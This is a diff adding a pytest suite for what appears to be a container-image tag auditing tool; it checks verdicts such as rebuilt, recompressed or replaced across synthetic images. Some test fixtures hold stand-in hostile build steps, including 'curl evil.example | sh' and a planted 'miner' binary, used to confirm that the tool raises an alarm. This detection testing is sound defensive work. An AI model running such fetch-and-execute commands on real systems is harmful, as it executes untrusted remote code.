@@ -1,0 +1,417 @@
+"""Every verdict on images made for it; the shapes that must never alarm, and those that must."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Sequence
+from dataclasses import replace
+from itertools import pairwise
+
+import pytest
+
+from tagwatch.audit.base import BaseBuild
+from tagwatch.audit.base_index import BaseIndex, index_builds
+from tagwatch.audit.change import Change, Verdict
+from tagwatch.audit.image import read_image
+from tagwatch.audit.verdict import ChangeContext, explain_change
+from tagwatch.image.image_config import parse_image_config
+from tagwatch.image.platform import LINUX_AMD64, Platform
+from tests import official
+from tests.image_builder import (
+    EPOCH,
+    Built,
+    Step,
+    assemble,
+    attest,
+    build,
+    cmd,
+    config_digest,
+    copy,
+    debian_root,
+    entrypoint,
+    env,
+    expose,
+    index,
+    label,
+    provenance,
+    recompress,
+    run,
+    setting,
+    spdx,
+    squash,
+    user,
+    without_documents,
+    without_history,
+)
+from tests.official import ARM64, app, debian, python, redis
+
+WINDOWS_2019 = Platform(os="windows", architecture="amd64", os_version="10.0.17763.5696")
+WINDOWS_2019_PATCHED = replace(WINDOWS_2019, os_version="10.0.17763.5820")
+WINDOWS_2022 = replace(WINDOWS_2019, os_version="10.0.20348.2402")
+
+
+def explain(
+    before: Built,
+    after: Built,
+    context: ChangeContext | None = None,
+    *,
+    versions: tuple[str | None, str | None] = (None, None),
+    reference: str = "docker.io/library/python:3.12-slim",
+) -> Change:
+    return explain_change(
+        official.read(before, reference, versions[0]),
+        official.read(after, reference, versions[1]),
+        tag=reference.rpartition(":")[2],
+        at=EPOCH,
+        context=context,
+    )
+
+
+def build_of(image: Built, reference: str, version: str | None = None) -> BaseBuild:
+    config = parse_image_config(image.documents[config_digest(image)].raw)
+    return BaseBuild(
+        reference=reference,
+        tag=reference.rpartition(":")[2],
+        platform=config.platform,
+        digest=image.digest,
+        manifest=image.digest,
+        config=config_digest(image),
+        diff_ids=config.diff_ids,
+        history=config.history,
+        version=version,
+    )
+
+
+def bases(*images: tuple[Built, str]) -> BaseIndex:
+    return index_builds([build_of(image, reference) for image, reference in images])
+
+
+def labelled(image: Built, day: int) -> Built:
+    return build(label("org.opencontainers.image.created", f"2026-05-{day:02}"), base=image)
+
+
+def windows(platform: Platform, patch: str) -> Built:
+    foreign = Step(created_by="Apply image 1809-RTM-amd64", files={"Windows": "1"}, foreign=True)
+    update = Step(created_by=f"Install update {patch}", files={"Windows/p": patch}, foreign=True)
+    return build(foreign, update, env("APP_VERSION", "1.0"), run("install app"), platform=platform)
+
+
+IDENTICAL = python()
+CASES: dict[str, tuple[Built, Built, Verdict]] = {
+    "one digest": (IDENTICAL, IDENTICAL, Verdict.IDENTICAL),
+    "gzip to zstd": (python(), recompress(python(), "zstd"), Verdict.RECOMPRESSED),
+    "other gzip level": (
+        index(python()), index(recompress(python(), "gzip-fast")), Verdict.RECOMPRESSED),
+    "annotations only": (
+        index(python()),
+        index(assemble(python().config, python().layers, LINUX_AMD64, annotations={"a": "b"})),
+        Verdict.METADATA_ONLY,
+    ),
+    "OCI to Docker media types": (
+        build(cmd("a")), build(cmd("a"), flavour="docker"), Verdict.METADATA_ONLY),
+    "only created differs": (
+        debian(), build(base=debian(), created=official.on_day(4)), Verdict.METADATA_ONLY),
+    "only a label differs": (
+        python(), build(label("maintainer", "b"), base=python()), Verdict.METADATA_ONLY),
+    "only the revision label differs": (
+        labelled(python(), 1), labelled(python(), 2), Verdict.METADATA_ONLY),
+    "an attestation comes": (
+        index(python()),
+        index(python(), attest(python(), spdx(python(), {}))),
+        Verdict.ATTESTATION_ONLY,
+    ),
+    "an attestation changes": (
+        index(python(), attest(python(), spdx(python(), {"pkg:deb/debian/a": "1"}))),
+        index(python(), attest(python(), spdx(python(), {"pkg:deb/debian/a": "2"}))),
+        Verdict.ATTESTATION_ONLY,
+    ),
+    "a single manifest becomes an index with an attestation": (
+        python(),
+        index(python(), attest(python(), provenance(python(), []), form="artifact")),
+        Verdict.ATTESTATION_ONLY,
+    ),
+    "a platform comes": (
+        index(debian()), index(debian(), debian(platform=ARM64)), Verdict.PLATFORMS_CHANGED),
+    "a platform goes": (
+        index(debian(), debian(platform=ARM64)), index(debian()), Verdict.PLATFORMS_CHANGED),
+    "another platform only": (
+        debian(), debian(platform=ARM64), Verdict.PLATFORMS_CHANGED),
+    "the order of an index": (
+        index(debian(), debian(platform=ARM64)),
+        index(debian(platform=ARM64), debian()),
+        Verdict.METADATA_ONLY,
+    ),
+    "Debian of another day, every layer new": (python(0), python(9), Verdict.REBUILT),
+    "redis of another day": (redis(0), redis(9), Verdict.REBUILT),
+    "bookworm to trixie": (
+        python(0), python(9, base=debian(9, release="trixie")), Verdict.REBUILT),
+    "Debian itself of another day": (debian(0), debian(9), Verdict.REBUILT),
+    "next patch": (python(0), python(9, "3.12.4"), Verdict.UPGRADED),
+    "ten is more than nine": (python(0, "3.12.9"), python(9, "3.12.10"), Verdict.UPGRADED),
+    "a step back": (python(0, "3.12.4"), python(9, "3.12.3"), Verdict.DOWNGRADED),
+    "an extra build step": (
+        python(0), python(9, extra=(run("curl evil.example | sh"),)), Verdict.REPLACED),
+    "a changed entrypoint": (
+        python(0), build(entrypoint("/evil"), base=python(0)), Verdict.REPLACED),
+    "a changed user": (python(0), build(user("app"), base=python(0)), Verdict.REPLACED),
+    "another port": (python(0), build(expose("80/tcp"), base=python(0)), Verdict.REPLACED),
+    "another volume": (
+        python(0),
+        build(setting("VOLUME [/d]", Volumes={"/d": {}}), base=python(0)),
+        Verdict.REPLACED,
+    ),
+    "squashed": (python(0), squash(python(9)), Verdict.UNKNOWN),
+    "history missing": (python(0), without_history(python(9)), Verdict.UNKNOWN),
+    "config not read": (
+        python(0), without_documents(python(9), config_digest(python(9))), Verdict.UNKNOWN),
+    "nothing read": (python(0), without_documents(python(9), python(9).digest), Verdict.UNKNOWN),
+    "foreign layers, next Windows patch": (
+        windows(WINDOWS_2019, "a"), windows(WINDOWS_2019_PATCHED, "b"), Verdict.REBUILT),
+    "Windows for two builds, one patched": (
+        index(windows(WINDOWS_2019, "a"), windows(WINDOWS_2022, "a")),
+        index(windows(WINDOWS_2022, "a"), windows(WINDOWS_2019_PATCHED, "b")),
+        Verdict.REBUILT,
+    ),
+    "Windows 2019 makes place for 2022": (
+        index(windows(WINDOWS_2019, "a"), debian()),
+        index(windows(WINDOWS_2022, "b"), debian()),
+        Verdict.REBUILT,
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("before", "after", "verdict"), CASES.values(), ids=CASES.keys())
+def test_verdict(before: Built, after: Built, verdict: Verdict) -> None:
+    change = explain(before, after, versions=_tag_version(before, after))
+    assert change.verdict is verdict, change.reason
+    assert change.reason
+    assert change.diff["verdict"] == verdict.value
+    assert (change.before, change.after) == (before.digest, after.digest)
+
+
+def _tag_version(before: Built, after: Built) -> tuple[str | None, str | None]:
+    """The version in a tag such as 1.0 for images that state none: the same on both sides."""
+    stated = "PYTHON_VERSION" in str(before.config) + "".join(str(i.config) for i in before.images)
+    return (None, None) if stated else ("1.0", "1.0")
+
+
+@pytest.mark.parametrize(
+    "case", [case for case in CASES if CASES[case][2] in (Verdict.REPLACED, Verdict.UNKNOWN)]
+)
+def test_reason_names_what_was_found(case: str) -> None:
+    before, after, _ = CASES[case]
+    reason = explain(before, after).reason
+    expected = {
+        "an extra build step": "evil.example",
+        "a changed entrypoint": "entrypoint",
+        "a changed user": "user (root to app)",
+        "another port": "EXPOSE 80/tcp",
+        "another volume": "VOLUME",
+        "squashed": "squashed",
+        "history missing": "no history",
+        "config not read": "config was not read",
+        "nothing read": "manifest was not read",
+    }
+    assert expected[case] in reason
+
+
+def nightly(make: Callable[[int], Built], nights: int) -> list[Verdict]:
+    images = [make(night) for night in range(nights)]
+    return [
+        explain(before, after, versions=("1", "1")).verdict for before, after in pairwise(images)
+    ]
+
+
+def base_of_the_night(night: int) -> Built:
+    """Alpine moves its patch release under the same tag of the image above."""
+    patch = 3 + night // 7
+    root = Step(
+        created_by=f"ADD alpine-minirootfs-3.20.{patch}-x86_64.tar.gz / # buildkit",
+        files={"etc/alpine-release": f"3.20.{patch}", "n": str(night)},
+    )
+    return build(root, cmd("/bin/sh"), created=official.on_day(night))
+
+
+@pytest.mark.parametrize(
+    "make",
+    [
+        python,
+        redis,
+        debian,
+        base_of_the_night,
+        lambda night: index(python(night), debian(night, platform=ARM64)),
+        lambda night: build(*official.python_steps("3.12.3", night), base=base_of_the_night(night)),
+        lambda night: app(python(night), night),
+    ],
+    ids=["python", "redis", "debian", "alpine", "index", "python on alpine", "private"],
+)
+def test_thirty_nightly_rebuilds_raise_no_alarm(make: Callable[[int], Built]) -> None:
+    assert set(nightly(make, 30)) == {Verdict.REBUILT}
+
+
+def classic(image: Built) -> Built:
+    """The same image as the classic builder would have written its history."""
+    history = []
+    for entry in image.config["history"]:
+        text = entry["created_by"].removesuffix(" # buildkit")
+        if text.startswith("RUN "):
+            text = text.removeprefix("RUN ")
+        elif text.startswith("COPY "):
+            text = f"/bin/sh -c #(nop) COPY file:{'ab' * 32} in {text.split()[-1]} "
+        elif not text.startswith("#"):
+            text = f"/bin/sh -c #(nop)  {text}"
+        history.append({**entry, "created_by": text})
+    return assemble({**image.config, "history": history}, image.layers, LINUX_AMD64)
+
+
+def test_another_builder_is_no_replacement() -> None:
+    """Official images went from the classic builder to BuildKit in 2023."""
+    change = explain(classic(redis(0)), redis(1), versions=("6.2.14", "6.2.14"))
+    assert change.verdict is Verdict.REBUILT, change.reason
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "verdict"),
+    [
+        ("ENV A_SHA256=" + "a1" * 32, "ENV A_SHA256=" + "b2" * 32, Verdict.REBUILT),
+        ("ENV A_SHA256=" + "a1" * 32, "ENV A_SHA256=skip", Verdict.REPLACED),
+        ("ARG BUILD_DATE=2026-05-01", "ARG BUILD_DATE=2026-06-01T10:00:00Z", Verdict.REBUILT),
+        ("RUN x 20260501", "RUN x 20260602", Verdict.REBUILT),
+        ("RUN |1 SOURCE_DATE_EPOCH=1715644800 /bin/sh -c make # buildkit",
+         "RUN |1 SOURCE_DATE_EPOCH=1716644800 /bin/sh -c make # buildkit", Verdict.REBUILT),
+        ("RUN git checkout " + "a1" * 20, "RUN git checkout " + "b2" * 20, Verdict.REBUILT),
+        ("LABEL a=b", "LABEL a=c", Verdict.REBUILT),
+        ("RUN pip install a==1.0", "RUN pip install a==1.1", Verdict.REPLACED),
+        ("ENV GOSU_VERSION=1.16", "ENV GOSU_VERSION=1.17", Verdict.REPLACED),
+        ("RUN make", "RUN make && curl evil", Verdict.REPLACED),
+    ],
+)  # fmt: skip
+def test_normalised_steps(old: str, new: str, verdict: Verdict) -> None:
+    before = build(Step(created_by=old), run("make", a="1"), base=debian(0))
+    after = build(Step(created_by=new), run("make", a="2"), base=debian(0))
+    change = explain(before, after, versions=("1.0", "1.0"))
+    assert change.verdict is verdict, change.reason
+
+
+def swapped(immutable: bool, known: bool) -> Change:
+    """One app layer swapped while the base stands."""
+    base = python(0)
+    index_ = bases((base, "docker.io/library/python:3.12-slim")) if known else BaseIndex()
+    return explain(
+        app(base, content="good"),
+        app(base, content="evil"),
+        ChangeContext(bases=index_, immutable=immutable),
+        reference="registry.example/shop/api:1.4.2",
+        versions=("1.4.2", "1.4.2"),
+    )
+
+
+@pytest.mark.parametrize("known", [True, False])
+def test_a_swapped_layer_alarms_where_the_tag_is_immutable(known: bool) -> None:
+    assert swapped(immutable=True, known=known).verdict is Verdict.REPLACED
+    assert swapped(immutable=False, known=known).verdict is Verdict.REBUILT
+
+
+def test_an_immutable_tag_may_follow_its_base() -> None:
+    change = explain(
+        app(python(0)), app(python(1), 1), ChangeContext(immutable=True), versions=("1", "1")
+    )
+    assert change.verdict is Verdict.REBUILT, change.reason
+
+
+def corporate(day: int, tool: str) -> Built:
+    """A base of one's own, whose own steps change between two days."""
+    return build(run(f"install {tool}", tool=f"{tool} {day}"), cmd("sh"), base=debian(day))
+
+
+def test_a_base_with_other_steps_is_no_replacement_of_what_stands_on_it() -> None:
+    old, new = corporate(0, "vim"), corporate(1, "emacs")
+    known = bases((old, "registry.example/base:1"), (new, "registry.example/base:1"))
+    versions = ("1.4.2", "1.4.2")
+    change = explain(app(old), app(new, 1), ChangeContext(bases=known), versions=versions)
+    assert change.verdict is Verdict.REBUILT
+    assert "another build of registry.example/base:1" in change.reason
+    unknown = explain(app(old), app(new, 1), versions=versions)
+    assert unknown.verdict is Verdict.UNKNOWN
+    assert "perhaps in the base only" in unknown.reason
+
+
+def test_other_steps_above_a_known_base_are_a_replacement() -> None:
+    old, new = corporate(0, "vim"), corporate(1, "emacs")
+    known = bases((old, "registry.example/base:1"), (new, "registry.example/base:1"))
+    evil = build(copy("miner", "/usr/bin"), base=app(new, 1))
+    change = explain(app(old), evil, ChangeContext(bases=known), versions=("1", "1"))
+    assert change.verdict is Verdict.REPLACED
+    assert "miner" in change.reason
+
+
+def test_an_image_is_never_its_own_base() -> None:
+    """Else a base that was replaced would have no steps of its own to differ."""
+    old, new = python(0), python(1, extra=(run("curl evil"),))
+    known = bases((old, "docker.io/library/python:3"), (new, "docker.io/library/python:3"))
+    change = explain(old, new, ChangeContext(bases=known), versions=("3.12.3", "3.12.3"))
+    assert change.verdict is Verdict.REPLACED, change.reason
+
+
+def test_without_a_version_other_steps_are_unknown() -> None:
+    before, after = app(debian(0)), build(run("more"), base=app(debian(0)))
+    reference = "registry.example/shop/api:latest"
+    change = explain(before, after, reference=reference)
+    assert change.verdict is Verdict.UNKNOWN
+    assert "cannot be told apart" in change.reason
+    immutable = explain(before, after, ChangeContext(immutable=True), reference=reference)
+    assert immutable.verdict is Verdict.REPLACED
+
+
+def test_versions_that_cannot_be_ordered_are_unknown() -> None:
+    change = explain(debian(0), debian(1), versions=("main", "feature"))
+    assert change.verdict is Verdict.UNKNOWN
+    assert "cannot be told" in change.reason
+
+
+def test_the_gravest_platform_speaks() -> None:
+    before = index(python(0), python(0, base=debian(platform=ARM64)))
+    evil = (run("curl evil"),)
+    after = index(python(1), python(1, base=debian(1, platform=ARM64), extra=evil))
+    change = explain(before, after)
+    assert change.verdict is Verdict.REPLACED
+    assert change.reason.startswith("linux/arm64: ")
+    assert change.diff["by_platform"][0]["verdict"] == "replaced"
+
+
+def unread_arm64(day: int) -> Built:
+    image = python(day, base=debian(day, platform=ARM64))
+    return without_documents(image, image.digest, config_digest(image))
+
+
+def test_a_platform_nobody_audits_is_no_gap() -> None:
+    before, after = index(python(0), unread_arm64(0)), index(python(1), unread_arm64(1))
+    audited = explain(before, after, ChangeContext(audited=(LINUX_AMD64,)))
+    assert audited.verdict is Verdict.REBUILT
+    everything = explain(before, after)
+    assert everything.verdict is Verdict.UNKNOWN
+    assert "linux/arm64" in everything.reason
+
+
+def test_only_an_unaudited_platform_moved() -> None:
+    before, after = index(python(0), unread_arm64(0)), index(python(0), unread_arm64(1))
+    change = explain(before, after, ChangeContext(audited=(LINUX_AMD64,)))
+    assert change.verdict is Verdict.PLATFORMS_CHANGED
+    assert change.reason == "only platforms that are not audited moved: linux/arm64"
+
+
+def test_hostile_documents_are_an_answer() -> None:
+    document = debian().documents[debian().digest]
+    broken = replace(document, raw=b'{"schemaVersion":2,"manifests":[],"config":{}}')
+    image = read_image(document.digest, {document.digest: broken})
+    change = explain_change(official.read(python()), image, tag="a", at=EPOCH)
+    assert change.verdict is Verdict.UNKNOWN
+    assert "CVE-2021-41190" in change.reason
+
+
+def test_a_history_of_many_entries_costs_no_quadratic_time() -> None:
+    def many(word: str) -> Built:
+        steps: Sequence[Step] = [Step(created_by=f"ENV A{n}={word}{n}") for n in range(3_000)]
+        return build(*debian_root("bookworm"), *steps, run("make", a=word))
+
+    change = explain(many("a"), many("b"), versions=("1", "1"))
+    assert change.verdict is Verdict.REPLACED
